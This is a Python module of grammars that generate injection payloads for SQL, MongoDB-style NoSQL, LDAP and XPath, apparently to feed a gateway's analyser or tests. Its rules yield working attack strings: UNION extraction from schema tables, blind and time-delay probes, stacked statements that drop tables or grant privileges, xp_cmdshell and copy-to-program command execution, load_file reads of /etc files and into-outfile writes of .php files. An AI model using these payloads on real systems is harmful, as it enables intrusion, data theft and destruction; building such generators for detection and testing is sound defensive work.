"""Attacks on what asks a store: statements of SQL, documents and filters of other stores, directories and XPath.

Written from the manuals of MySQL, PostgreSQL, SQL Server, Oracle, SQLite and MongoDB, and from RFC 4515.
"""

from __future__ import annotations

from typing import Final

from gateway.analyst.text.grammar import Grammar

SQL: Final = Grammar(
    {
        "start": """
«before»«quit» «join» «truth»«after»
«before»«quit» «join» «truth»«after»
«before»«quit» «union»«after»
«before»«quit» «union»«after»
«before»«quit»; «statement»«after»
«before»«quit» «join» «delay»«after»
«before»«quit» «join» «blind»«after»
«before»«quit»«after_needed»
«before»«quit» order by «small»«after»
«before»«quit» group by «column» having «truth»«after»
«before»'||«call»||'
«before»'+«call»+'
«before»' «join» «column» like '«letter»%«after»
(«subquery»)
«number» «join» «truth»
«number»-«call»
«before»«quit» «join» «error»«after»
«before»«quit» procedure analyse(«error»,«small»)«after»
«before»') «join» ('«letter»'='«letter»
«before»' «join» '«letter»'='«letter»
«before»" «join» "«letter»"="«letter»
«before»' into outfile '/«word»/«word».php'«after»
«before»'='
«before»'-'0
'«join»'«small»'='«small»
""",
        "before": "«empty»\n«empty»\n«number»\n-«small»\n«word»\nadmin\n«word»@«domain»\n«token»",
        "quit": "'\n'\n\"\n')\n'))\n\")\n)\n`\n\\'\n''\n«empty»\n%'\n';",
        "join": "or\nor\nand\nand\n||\n&&\nxor\nor not\nand not\nwhere",
        "truth": """
«small»=«small»
«number»=«number»
'«letter»'='«letter»'
'«word»'='«word»'
"«letter»"="«letter»"
«small» like «small»
«small»<>«small»
«small»<«number»
«column» is not null
true
not false
«small» in («small»,«small»)
«small» between «small» and «small»
'«letter»' like '«letter»'
«column»='«word»'
(«small»)=(«small»)
«small»=«small» and '«letter»'='«letter»
exists(«subquery»)
«column» regexp '^«letter»'
length(«column»)>«small»
""",
        "after": "«empty»\n--\n-- \n-- -\n--+\n#\n/*\n;--\n;\n -- «word»\n;%00\n) -- \n)#",
        "after_needed": "--\n-- \n-- -\n#\n/*\n;--\n;%00\n or 1-- -\n;#",
        "union": """
union «all»select «values»
union «all»select «values» from «table»
union «all»select «values» from «catalogue»
union «all»select «columns» from «table»
union «all»(select «values»)
union «all»select * from «table»
union «all»select «values» from «table» where «truth»
union «all»select top «small» «columns» from «table»
union «all»select «values» limit «small»,«small»
""",
        "all": "«empty»\n«empty»\nall \ndistinct ",
        "values": "null\nnull,«values»\n«small»,«values»\n«small»\n«call»,«values»\n'«letter»',«values»\n0x«hexes»,null\n«call»",
        "columns": "«column»\n«column»,«columns»\nconcat(«column»,0x3a,«column»)\ngroup_concat(«column»)\n«column»||':'||«column»",
        "catalogue": "information_schema.tables\ninformation_schema.columns where table_name='«table»'\nsqlite_master\nall_tables\nsys.objects\npg_catalog.pg_tables\nsysobjects where xtype='U'\ndual\nmysql.user\nv$version",
        "call": "version()\n@@version\nuser()\ncurrent_user\ndatabase()\nsleep(«small»)\nchar(«number»)\nchr(«number»)||chr(«number»)\nconcat(«call»,0x7e)\nload_file('/etc/«word»')\n(«subquery»)\nbanner\nunhex('«hexes»')\n@@hostname\nascii(substr(«call»,«small»,1))",
        "subquery": """
select «columns» from «table»
select «columns» from «table» limit 1
select count(*) from «table»
select «column» from «table» where «truth»
select «call»
select table_name from «catalogue»
select case when («truth») then «small» else «small»/0 end
""",
        "statement": """
drop table «table»
delete from «table»
update «table» set «column»='«word»' where «truth»
insert into «table» values («values»)
insert into «table»(«column») values ('«word»')
exec xp_cmdshell '«word»'
exec master..xp_dirtree '//«domain»/«letter»'
declare @«letter» varchar(«number») set @«letter»=0x«hexes» exec(@«letter»)
waitfor delay '0:0:«small»'
select pg_sleep(«small»)
create user «word» identified by '«word»'
shutdown
select «call»
truncate table «table»
alter table «table» drop «column»
copy «table» to program '«word»'
begin dbms_lock.sleep(«small»); end
grant all on *.* to «word»
""",
        "delay": "sleep(«small»)\n(select sleep(«small»))\nbenchmark(«number»000,md5(«small»))\npg_sleep(«small»)\n(select «small» from (select(sleep(«small»)))«letter»)\ndbms_pipe.receive_message('«letter»',«small»)\nif(«truth»,sleep(«small»),0)\n«small»=(select «small» from pg_sleep(«small»))\nrandomblob(«number»00000)",
        "blind": "ascii(substring((«subquery»),«small»,1))>«number»\nsubstr((«subquery»),«small»,1)='«letter»'\nmid(«call»,«small»,1)='«letter»'\n(«subquery»)=«small»\n(«subquery»)>«small»\nif(«truth»,«small»,«small»)\nord(mid((«subquery»),«small»,1))>«number»\n«small»=(case when («truth») then «small» else «small» end)\nelt(«small»=«small»,«call»)",
        "error": "extractvalue(«small»,concat(0x7e,(«subquery»)))\nupdatexml(«small»,concat(0x7e,«call»),«small»)\ncast((«subquery») as int)\nconvert(int,(«subquery»))\nexp(~(select*from(«subquery»)«letter»))\nctxsys.drithsx.sn(«small»,(«subquery»))\n(select «small» from(select count(*),concat((«subquery»),floor(rand(0)*2))«letter» from «catalogue» group by «letter»)«letter»)\njson_keys((«subquery»))\ngtid_subset(«call»,«small»)",
    }
)
NOSQL: Final = Grammar(
    {
        "start": """
{"$«compare»": «value»}
{"$«compare»":«value»}
{"«column»": {"$«compare»": «value»}}
{"«column»": {"$«compare»": «value»}, "«column»": {"$«compare»": «value»}}
«column»[$«compare»]=«plain»
«word»[$«compare»]=«plain»
«word»[«word»][$«compare»]=«plain»
«before»' || «js» || '
«before»'; «js»; var «letter»='
«before»" || «js» || "«letter»"=="
«before»' && this.«column»«regex»//
{"$where": "«js»"}
{"$where":"«js»"}
$where=«js»
{"$or": [{}, {"«column»": "«word»"}]}
«before»'}, {$«compare»: ''
{$«compare»: «value»}
db.«table».«method»({})
true, $where: '«js»'
{"«column»":{"$regex":"^«letter»"}}
';return(true);var «letter»='
[$«compare»]=«plain»
{"selector":{"_id":{"$«compare»":null}}}
""",
        "compare": "ne\nne\ngt\ngte\nlt\nin\nnin\nexists\nregex\nnot\nwhere\neq\nall\nexpr\nelemMatch\ntype",
        "value": 'null\n""\n1\n-1\ntrue\n["«word»"]\n".*"\n"^«letter»"\n{}\n"«word»"\n[]',
        "plain": "«empty»\n1\n«word»\n.*\n^«letter»\ntrue\n«letter».*",
        "js": "1==1\nthis.«column».match(/^«letter»/)\nsleep(«number»)\nreturn true\nthis.«column» != null\nfunction(){return true}\nwhile(true){}\nthis.«column»=='«word»'\nDate.now()%2==0\nthis.constructor.constructor('«word»')()",
        "regex": ".match(/.*/)\n.length > «small»\n[0]=='«letter»'",
        "before": "«empty»\n«word»\nadmin\n«number»",
        "method": "drop\nremove\nfind\ndeleteMany\nmapReduce",
    }
)
DIRECTORY: Final = Grammar(
    {
        "start": """
*
*)(«attribute»=*
*)(«attribute»=*))(|(«attribute»=*
«word»)(&)
«word»)(|(«attribute»=*
«word»)(|(«attribute»=*))
*)(uid=*))(|(uid=*
admin*)((|«attribute»=*)
*))%00
)(cn=))\\x00
«word»*)(«attribute»=«letter»*
*)(objectClass=«word»)(«attribute»=*
(&(«attribute»=*)(«attribute»=«letter»*))
*|(«attribute»=*)
«word»)(!(&(1=0
' or «xpath» or '
'] | //«word»[«small»='
' or count(//«word»)=«small» or 'a'='b
x' or name()='«word»' or 'x'='y
«word»' and substring(//«word»[«small»]/«column»,«small»,1)='«letter»
""",
        "attribute": "uid\ncn\nmail\nuserPassword\nobjectClass\nsn\nmemberOf\nsAMAccountName\ntelephoneNumber",
        "xpath": "1=1\nposition()=«small»\nstring-length(name(/*[«small»]))=«number»\n//«word»/text()\ncontains(«column»,'«letter»')\nstarts-with(name(),'«letter»')",
    }
)
